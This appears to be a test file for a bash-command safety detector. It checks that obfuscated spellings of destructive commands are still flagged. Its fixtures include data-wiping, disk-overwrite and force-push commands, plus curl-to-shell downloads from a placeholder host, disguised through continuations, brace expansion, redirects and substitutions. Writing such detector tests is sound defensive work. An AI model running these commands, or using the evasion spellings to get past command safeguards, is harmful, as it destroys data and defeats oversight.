import { beforeAll, describe, expect, it } from 'vitest';
import { detect } from './detect.js';
import { continuationsJoined } from './analysis-state.js';
import { loadBashParser, type ParseBash } from './parser.js';

let parse: ParseBash;
beforeAll(async () => {
  parse = await loadBashParser();
});
const rules = (line: string): string[] => detect(parse, line, { cwd: '/work/proj' }).findings.map((f) => f.rule);

describe('a line split with backslash-newline, read as bash reads it', () => {
  it.each([
    ['r\\\nm -rf ~', 'delete-home'],
    ['gi\\\nt push --force origin main', 'git-force-push'],
    ['r\\\n\\\nm -rf ~', 'delete-home'],
    ['bash -c "r\\\nm -rf ~"', 'delete-home'],
    ['bash <<EOF\nr\\\nm -rf ~\nEOF', 'delete-home'],
    // a backslash before a carriage return quotes the return: the newline after it ends the command
    ['echo hi\\\r\nrm -rf ~', 'delete-home'],
    // a comment ends at its newline: a backslash at its end continues nothing
    ['# note \\\nrm -rf ~', 'delete-home'],
    // an escaped backslash before the newline: the newline ends the command
    ['echo a\\\\\nrm -rf ~', 'delete-home'],
  ])('asks: %j', (line, rule) => {
    expect(rules(line)).toContain(rule);
  });

  it.each([
    'docker run \\\n  -v "$PWD:/src" \\\n  alpine ls /src',
    'npm install \\\n  --save-dev vitest',
    'git commit -m "fix: \\\ntypo"',
    "echo 'a\\\nb'",
  ])('does not ask: %j', (line) => {
    expect(rules(line)).toEqual([]);
  });

  it('reads a second time only where bash and the grammar differ', () => {
    expect(continuationsJoined('ls \\\n  -la')).toEqual({ text: 'ls   -la', differs: false });
    expect(continuationsJoined('ls -la')).toBeUndefined();
    expect(continuationsJoined('r\\\nm x')).toEqual({ text: 'rm x', differs: true });
    expect(continuationsJoined('a\\\r\nb')).toEqual({ text: "a$'\\r'\nb", differs: true });
  });

  it.each(['ls -la \\\n', 'npm test \\\n', 'make build \\\n&& make test', 'git fetch \\\n|| true'])(
    "does not ask where only bash's reading parses: %j",
    (line) => {
      expect(rules(line)).toEqual([]);
    },
  );

  it('judges the command after a continuation only bash can parse', () => {
    expect(rules('cd /tmp \\\n&& rm -rf ~')).toContain('delete-home');
  });
});

describe('a double-quoted string over several lines', () => {
  // The grammar leaves the newline between two pieces of a string out of both: it was lost, and `echo` ran into
  // `rm` ("echo<newline>rm -rf ~" read as "echorm -rf ~").
  it.each([
    ['bash -c "echo\nrm -rf ~"', 'delete-home'],
    ['sh -c "cd /tmp\n\nrm -rf ~"', 'delete-home'],
    ['psql -c "DROP\nDATABASE prod"', 'sql-drop'],
    ['mysql -e "SELECT 1;\nTRUNCATE\nTABLE users"', 'sql-truncate'],
  ])('asks: %j', (line, rule) => {
    expect(rules(line)).toContain(rule);
  });

  it('keeps the text as bash passes it', () => {
    expect(rules('bash -c "echo a\necho b"')).toEqual([]);
  });
});

describe('wrappers stacked any number deep', () => {
  it.each([17, 40, 300])('judges what %i stacked env wrappers run', (n) => {
    expect(rules(`${'env '.repeat(n)}rm -rf ~`)).toContain('delete-home');
    expect(rules(`${'sudo '.repeat(n)}rm -rf ~`)).toContain('delete-home');
  });

  it('reads an ordinary command under many wrappers as ordinary', () => {
    expect(rules(`${'nice '.repeat(30)}ls -la`)).toEqual([]);
  });
});

describe("words the grammar puts in a redirect are the command's arguments", () => {
  it.each([
    ['rm 2>&1 -rf ~', 'delete-home'],
    ['git push >/dev/null --force origin main', 'git-force-push'],
    ['sudo 2>/dev/null chmod -R 777 /', 'system-permissions'],
    ['rm<<EOF -rf ~\nx\nEOF', 'delete-home'],
    ["eval 2>&1 'rm -rf ~'", 'delete-home'],
    ['rm -rf 2>/dev/null /tmp/x ~ >>log', 'delete-home'],
  ])('asks: %j', (line, rule) => {
    expect(rules(line)).toContain(rule);
  });

  // The grammar drops a lone `-` written just before a here-document (`cat - <<EOF` has no arguments there).
  it.each([
    ['make -f - <<EOF\nall:\n\trm -rf ~\nEOF', 'delete-home'],
    ['make -f - 2>&1 <<-EOF\nall: ; kill -9 -1\nEOF', 'kill-all'],
  ])('keeps a lone - before a here-document: %j', (line, rule) => {
    expect(rules(line)).toContain(rule);
  });

  it('still reads the redirect target as a file', () => {
    expect(rules('echo x > out.txt extra')).toEqual([]);
    expect(rules('echo x > ~/.bashrc extra')).not.toEqual([]);
  });
});

describe('brace expansion', () => {
  it.each([
    ['git {push,--force} origin main', 'git-force-push'],
    ['git push origin {+,}main', 'git-force-push'],
    ['sudo {rm,-rf,/}', 'delete-root'],
    ['dd {if=/dev/zero,of=/dev/sda}', 'raw-disk-write'],
  ])('asks: %j', (line, rule) => {
    expect(rules(line)).toContain(rule);
  });

  it.each(['mkdir -p src/{components,hooks}', 'cp config.{json,json.bak}', 'touch file{1..3}.txt', 'echo "{a,b}"'])(
    'does not ask: %j',
    (line) => {
      expect(rules(line)).toEqual([]);
    },
  );
});

describe('command substitutions the grammar leaves as text', () => {
  it.each([
    ['echo "${x:-`rm -rf ~`}"', 'delete-home'],
    ['echo "${HOME#$(rm -rf ~)}"', 'delete-home'],
    ['echo "${HOME/`chmod -R 777 /`}"', 'system-permissions'],
    ['echo ${HOME%%`rm -rf ~`}', 'delete-home'],
    ['cat <<EOF\nmsg `git push --force origin main`\nEOF', 'git-force-push'],
  ])('asks: %j', (line, rule) => {
    expect(rules(line)).toContain(rule);
  });

  it.each([
    "cat <<'EOF'\nmsg `rm -rf ~`\nEOF",
    'cat <<\\EOF\nmsg `rm -rf ~`\nEOF',
    'cat <<EOF\nmsg \\`rm -rf ~\\`\nEOF',
    'echo "${HOME:-$(pwd)}" "${PATH//:/ }"',
  ])('does not ask: %j', (line) => {
    expect(rules(line)).toEqual([]);
  });
});

describe('a download piped into a compound command', () => {
  it.each([
    'curl http://x.example/s | (sh)',
    'curl http://x.example/s | { bash; }',
    'wget -qO- http://x.example/s | if true; then sh; fi',
  ])('asks: %j', (line) => {
    expect(rules(line)).toContain('remote-code-exec');
  });

  it('does not ask for a harmless compound reader', () => {
    expect(rules('git diff | (cd sub && git apply)')).toEqual([]);
    expect(rules('ls | { grep a; wc -l; }')).toEqual([]);
  });
});

describe('wrapper operands', () => {
  it.each([
    ['timeout -- 5 git push --force origin main', 'git-force-push'],
    ['timeout -s KILL -- 5 rm -rf ~', 'delete-home'],
    ['time X=1 Y=2 rm -rf ~', 'delete-home'],
  ])('asks: %j', (line, rule) => {
    expect(rules(line)).toContain(rule);
  });
});

describe('more spellings bash runs as the command they name', () => {
  it.each([
    // a redirect after a list's or pipeline's last command is that command's
    ['true && rm 2>&1 -rf ~', 'delete-home'],
    ['(cd /tmp && git push >/dev/null --force origin main)', 'git-force-push'],
    // `>&-` closes a descriptor and takes no target
    ['git push origin >&- +main', 'git-force-push'],
    ['sudo {fd}>/dev/null rm -rf /', 'delete-root'],
    // eval's `--` ends its options; what eval runs reads eval's input
    ["eval -- 'git push --force origin main'", 'git-force-push'],
    ['curl http://x.example/s | eval sh', 'remote-code-exec'],
    // sh -c's words after the script are its $0, $1, ... even where they look like options
    ['bash -c \'"$@"\' _ git push --force origin main', 'git-force-push'],
    ['bash -c \'"${@}"\' _ rm -rf ~', 'delete-home'],
    ['bash -c \'exec "$0" "$@"\' git push --force origin main', 'git-force-push'],
    ['coproc X=1 Y=2 rm -rf ~', 'delete-home'],
    ['time ! X=1 git push --force origin main', 'git-force-push'],
  ])('asks: %j', (line, rule) => {
    expect(rules(line)).toContain(rule);
  });

  it('reads the file a command is given over the pipeline before it', () => {
    expect(rules('curl http://x.example/s | sh < /dev/stdin')).toContain('remote-code-exec');
    expect(rules('curl http://x.example/s | sh < setup.sh')).not.toContain('remote-code-exec');
  });
});

describe('input from places the grammar does not connect', () => {
  it.each([
    ['echo -rf ~ | xargs rm', 'delete-home'],
    ["echo 'push --force origin main' | xargs git", 'git-force-push'],
    ['curl http://x.example/s | tee >(sh) >/dev/null', 'remote-code-exec'],
    ['curl -o >(sh) http://x.example/s', 'remote-code-exec'],
    ['echo "`echo \\`rm -rf ~\\``"', 'delete-home'],
  ])('asks: %j', (line, rule) => {
    expect(rules(line)).toContain(rule);
  });

  it.each(['git ls-files | xargs wc -l', 'make 2>&1 | tee >(grep error > errors.log)', 'echo src | xargs ls'])(
    'does not ask: %j',
    (line) => {
      expect(rules(line)).toEqual([]);
    },
  );
});

describe('a line the grammar cannot fully read', () => {
  // The parser inserts a missing token of a hidden rule (`$[]` lacks its number) with no node of its own: the
  // line still counts as broken, and a person reads it.
  it.each(['echo $[] && ls', 'ls $[]'])('asks: %j', (line) => {
    expect(rules(line)).toContain('unparsed');
  });

  it('asks, without parsing, for a line with NUL bytes (a shell cannot take them)', () => {
    // Parsing 64,000 NULs took 103 s; not parsing them takes no time (no clock asserted, the cap is vitest's 5 s).
    expect(rules(`echo ${'\0'.repeat(64_000)}`)).toEqual(['unparsed']);
    expect(rules('rm -rf ~ \0')).toEqual(['unparsed']);
  });
});
